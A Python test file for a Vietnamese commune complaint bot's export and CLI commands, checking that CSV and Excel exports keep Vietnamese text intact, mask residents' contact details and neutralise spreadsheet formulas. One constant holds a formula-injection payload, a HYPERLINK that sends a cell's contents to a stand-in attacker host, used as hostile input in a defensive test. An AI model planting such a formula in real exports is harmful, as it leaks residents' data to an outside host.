"""Exports that open in Excel with Vietnamese intact and never run a resident's formula,
and the ``motcua complaints`` commands."""

from __future__ import annotations

import asyncio
import csv
import io
import json
from pathlib import Path

import pytest
from openpyxl import load_workbook

from bot.cli import main
from bot.communes import all_profiles, sync_communes
from bot.config import Settings
from bot.db.engine import Database
from bot.db.migrate import upgrade
from complaints import export, service
from complaints.privacy import NOTICE_VERSION
from tests.complaints.drivers import local

HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")'


def test_dangerous_cells_are_defused() -> None:
    for text in ("=1+1", "+84912", "-2", "@SUM(A1)", "\tx", "\rx"):
        assert export.defuse(text) == "'" + text
    assert export.defuse("Đèn đường hỏng") == "Đèn đường hỏng"
    assert export.defuse(3) == 3


async def _seed(settings: Settings) -> int:
    db = Database(settings.resolved_database_url)
    try:
        await upgrade(db)
        async with db.transaction() as session:
            await sync_communes(session, settings.communes())
        async with db.read() as session:
            commune = (await all_profiles(session))[0]
        async with db.transaction() as session:
            await service.open_ticket(
                session,
                commune_id=commune.id,
                category="infrastructure",
                text=HOSTILE,
                channel="web",
                user_id="u1",
                chat_id="u1",
                now=local(2026, 3, 2, 9),
            )
            await service.open_ticket(
                session,
                commune_id=commune.id,
                category="procedure",
                text="Hồ sơ đăng ký kết hôn bị trả lại ba lần mà không nói rõ lý do",
                channel="telegram",
                user_id="42",
                chat_id="42",
                contact_consent=True,
                contact_name="Nguyễn Văn An",
                contact_phone="0912345678",
                consent_version=NOTICE_VERSION,
                now=local(2026, 3, 3, 9),
            )
            await service.open_ticket(
                session,
                commune_id=commune.id,
                category="other",
                text="Ngoài kỳ báo cáo",
                channel="web",
                user_id="u2",
                chat_id="u2",
                now=local(2026, 4, 1, 0, 30),
            )
        return commune.id
    finally:
        await db.dispose()


@pytest.fixture
def deployment(settings: Settings, monkeypatch: pytest.MonkeyPatch) -> Settings:
    monkeypatch.setenv("MOTCUA_DATA_DIR", str(settings.data_dir))
    monkeypatch.setenv("MOTCUA_DATABASE_URL", str(settings.database_url))
    settings.data_dir.mkdir(parents=True, exist_ok=True)
    asyncio.run(_seed(settings))
    return settings


def test_csv_export_is_excel_friendly_masked_and_safe(
    deployment: Settings, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    out = tmp_path / "q1.csv"
    argv = ["complaints", "export", "--from", "2026-03-01", "--to", "31/03/2026"]
    assert main([*argv, "--format", "csv", "--output", str(out)]) == 0
    assert "2 tickets" in capsys.readouterr().out
    data = out.read_bytes()
    assert data.startswith(b"\xef\xbb\xbf")  # the BOM Excel needs to read UTF-8
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    header, first, second = rows
    assert header[:3] == ["Mã phản ánh", "Ngày nhận", "Loại"]
    content = header.index("Nội dung")
    assert first[content] == "'" + HOSTILE
    assert second[content].startswith("Hồ sơ đăng ký kết hôn bị trả lại")
    assert second[header.index("Số điện thoại")] == "0912***678"
    assert second[header.index("Họ tên")] == "N. V. A."
    assert first[header.index("Ngày nhận")] == "02/03/2026 09:00"
    assert first[header.index("Hạn trả lời")] == "16/03/2026 17:00"

    revealed = tmp_path / "q1-full.csv"
    assert main([*argv, "--format", "csv", "--output", str(revealed), "--reveal-contacts"]) == 0
    assert "personal data" in capsys.readouterr().err
    text = revealed.read_bytes().decode("utf-8-sig")
    assert "0912345678" in text and "Nguyễn Văn An" in text


def test_xlsx_export_never_holds_a_formula(deployment: Settings, tmp_path: Path) -> None:
    out = tmp_path / "q1.xlsx"
    argv = ["complaints", "export", "--from", "2026-03-01", "--to", "2026-03-31"]
    assert main([*argv, "--format", "xlsx", "--output", str(out)]) == 0
    sheet = load_workbook(out).active
    header = [c.value for c in sheet[1]]
    content = header.index("Nội dung") + 1
    cell = sheet.cell(2, content)
    assert cell.data_type == "s" and cell.value == "'" + HOSTILE
    assert sheet.cell(3, content).value.startswith("Hồ sơ đăng ký kết hôn")
    assert sheet.cell(3, header.index("Số điện thoại") + 1).value == "0912***678"
    for row in sheet.iter_rows(min_row=2):
        for c in row:
            assert c.data_type != "f"


def test_report_settings_and_calendar_commands(
    deployment: Settings, capsys: pytest.CaptureFixture[str]
) -> None:
    assert (
        main(["complaints", "report", "--from", "2026-03-01", "--to", "2026-03-31", "--json"]) == 0
    )
    figures = json.loads(capsys.readouterr().out)
    assert figures["overall"]["received"] == 2
    assert main(["complaints", "settings", "--set", "tickets_per_day=5"]) == 0
    assert json.loads(capsys.readouterr().out)["tickets_per_day"] == 5
    assert main(["complaints", "settings", "--set", "tickets_per_day=0"]) == 2
    assert "refused" in capsys.readouterr().err
    assert main(["complaints", "days", "add", "2026-01-02", "--kind", "off", "--all"]) == 0
    assert (
        main(["complaints", "days", "add", "2026-01-10", "--kind", "work", "--note", "làm bù"]) == 0
    )
    capsys.readouterr()
    assert main(["complaints", "days", "list", "--year", "2026"]) == 0
    listing = capsys.readouterr().out
    assert "2026-01-02 Fri  day off (all communes)" in listing
    assert "2026-01-10 Sat  working day (this commune): làm bù" in listing
    assert "2026-02-17 Tue  holiday: Tết Nguyên Đán" in listing
    assert main(["complaints", "days", "remove", "2026-01-10"]) == 0
    assert main(["complaints", "days", "remove", "2026-01-10"]) == 2
